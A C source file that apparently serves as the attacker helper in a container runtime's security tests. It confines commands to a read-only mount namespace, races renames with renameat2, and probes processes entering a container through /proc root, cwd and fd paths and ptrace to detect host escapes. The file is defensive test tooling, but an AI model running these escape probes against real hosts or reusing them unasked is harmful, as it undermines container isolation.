/*
 * The attacker of the security tests, on both sides of the wall. On the host it shuts a command
 * into a mount namespace where only one directory can be written (old runtimes really do delete and
 * overwrite what these tests offer them), and swaps two names as fast as it can. In a container it
 * watches for processes that come in from outside and tries to reach the host through them. Linked
 * statically, so that it runs in any root. A word in capitals means that an attack worked.
 *
 * usage: attack cage DIRECTORY COMMAND...   everything else read-only
 *        attack swap A B                    exchanges the names until it is ended
 *        attack peek SECONDS CANARY         traces newcomers, looks for CANARY through their /proc
 *        attack exe SECONDS                 device:inode, file system and name of what they execute
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NEWCOMERS 32

static int die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	return 125;
}

/* File systems whose files are the kernel's, or the runtime's to change. */
static bool stays_writable(const char *type)
{
	static const char *const types[] = {"proc",   "sysfs",	"cgroup", "cgroup2",
					    "devpts", "mqueue", "bpf",	  "devtmpfs"};

	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++)
		if (strcmp(type, types[i]) == 0)
			return true;
	return false;
}

static bool is_below(const char *path, const char *directory)
{
	size_t length = strlen(directory);

	return strncmp(path, directory, length) == 0 && (!path[length] || path[length] == '/');
}

/* A remount must repeat the flags the mount has, or it would change them. */
static unsigned long flags_of(const char *path)
{
	struct statvfs fs;
	unsigned long flags = 0;

	if (statvfs(path, &fs) != 0)
		return 0;
	flags |= fs.f_flag & ST_NOSUID ? MS_NOSUID : 0;
	flags |= fs.f_flag & ST_NODEV ? MS_NODEV : 0;
	flags |= fs.f_flag & ST_NOEXEC ? MS_NOEXEC : 0;
	flags |= fs.f_flag & ST_NOATIME ? MS_NOATIME : 0;
	flags |= fs.f_flag & ST_NODIRATIME ? MS_NODIRATIME : 0;
	flags |= fs.f_flag & ST_RELATIME ? MS_RELATIME : 0;
	return flags;
}

static int do_cage(int argc, char **argv)
{
	char line[8192], target[4096], type[64];
	const char *directory = argv[2];
	FILE *mounts;

	if (argc < 4)
		return 125;
	if (unshare(CLONE_NEWNS) != 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
	    mount(directory, directory, NULL, MS_BIND | MS_REC, NULL) != 0)
		return die("cage");
	mounts = fopen("/proc/self/mountinfo", "re");
	while (mounts && fgets(line, sizeof(line), mounts)) {
		char *dash = strstr(line, " - ");

		if (!dash || sscanf(line, "%*s %*s %*s %*s %4095s", target) != 1 ||
		    sscanf(dash + 3, "%63s", type) != 1)
			continue;
		if (stays_writable(type) || is_below(target, directory) ||
		    is_below(target, "/dev") || is_below(target, "/sys"))
			continue;
		mount(NULL, target, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | flags_of(target),
		      NULL);
	}
	if (mounts)
		fclose(mounts);
	if (access("/etc", W_OK) == 0 || errno != EROFS)
		return die("the cage is open: /etc");
	execvp(argv[3], argv + 3);
	return die(argv[3]);
}

static int do_swap(int argc, char **argv)
{
	if (argc < 4)
		return 125;
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		if (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) != 0)
			return die("renameat2");
}

static void look_through(long pid, const char *canary)
{
	static const char up[] = "/../../../../../../../../../..";
	char path[2 * PATH_MAX], directory[64];
	static const char *const ways[] = {"root", "cwd"};
	struct dirent *entry;
	DIR *fds;

	for (size_t i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%ld/%s%s%s", pid, ways[i], up, canary);
		if (access(path, F_OK) == 0)
			printf("ESCAPE %s\n", path);
	}
	snprintf(directory, sizeof(directory), "/proc/%ld/fd", pid);
	fds = opendir(directory);
	while (fds && (entry = readdir(fds))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s%s%s", directory, entry->d_name, up, canary);
		if (access(path, F_OK) == 0)
			printf("ESCAPE %s\n", path);
	}
	if (fds)
		closedir(fds);
}

/* A program of the container's own may be traced; a process that has not become one may not. */
static void trace(long pid)
{
	char path[64], target[PATH_MAX] = "", line[256], name[256] = "";
	ssize_t length;
	FILE *status;

	if (ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0) != 0)
		return;
	ptrace(PTRACE_INTERRUPT, (pid_t)pid, 0, 0);
	snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
	length = readlink(path, target, sizeof(target) - 1);
	snprintf(path, sizeof(path), "/proc/%ld/status", pid);
	status = fopen(path, "re");
	if (status && fgets(line, sizeof(line), status))
		sscanf(line, "Name: %255s", name);
	if (status)
		fclose(status);
	if (length > 0 && strncmp(target, "/bin/", 5) != 0)
		printf("TRACED %ld %s %s\n", pid, name, target);
	else if (length > 0)
		printf("own %ld %s %s\n", pid, name, target);
	waitpid((pid_t)pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, (pid_t)pid, 0, 0);
}

/* Says each different line once. */
static void say_once(const char *line)
{
	static char said[NEWCOMERS][2 * PATH_MAX];

	for (size_t i = 0; i < NEWCOMERS; i++) {
		if (strcmp(said[i], line) == 0)
			return;
		if (!said[i][0]) {
			snprintf(said[i], sizeof(said[i]), "%s", line);
			printf("%s\n", line);
			return;
		}
	}
}

static void tell_exe(long pid)
{
	char path[64], target[PATH_MAX], line[2 * PATH_MAX];
	struct statfs fs;
	struct stat st;
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	length = readlink(path, target, sizeof(target) - 1);
	if (length > 0 && fstat(fd, &st) == 0 && fstatfs(fd, &fs) == 0) {
		target[length] = '\0';
		snprintf(line, sizeof(line), "exe %lu:%llu %#lx %s", (unsigned long)st.st_dev,
			 (unsigned long long)st.st_ino, (unsigned long)fs.f_type, target);
		say_once(line);
	}
	close(fd);
}

static int do_watch(int argc, char **argv)
{
	time_t end = time(NULL) + atoi(argc > 2 ? argv[2] : "1");
	bool peeks = strcmp(argv[1], "peek") == 0;
	long seen = 0;

	if (peeks && argc < 4)
		return 125;
	printf("watching\n");
	fflush(stdout);
	for (bool is_last = false; !is_last;) {
		/* Whoever asks for the end wants what is there by then to have been seen. */
		is_last = time(NULL) >= end || access("/tmp/stop", F_OK) == 0;
		for (long pid = 1; pid < 400; pid++) {
			if (pid == getpid() || kill((pid_t)pid, 0) != 0)
				continue;
			seen++;
			if (peeks) {
				look_through(pid, argv[3]);
				trace(pid);
			} else {
				tell_exe(pid);
			}
			fflush(stdout);
		}
	}
	printf("done seen=%s\n", seen ? "yes" : "no");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "cage") == 0)
		return do_cage(argc, argv);
	if (argc > 1 && strcmp(argv[1], "swap") == 0)
		return do_swap(argc, argv);
	if (argc > 1 && (strcmp(argv[1], "peek") == 0 || strcmp(argv[1], "exe") == 0))
		return do_watch(argc, argv);
	fprintf(stderr, "usage: attack cage|swap|peek|exe ...\n");
	return 2;
}
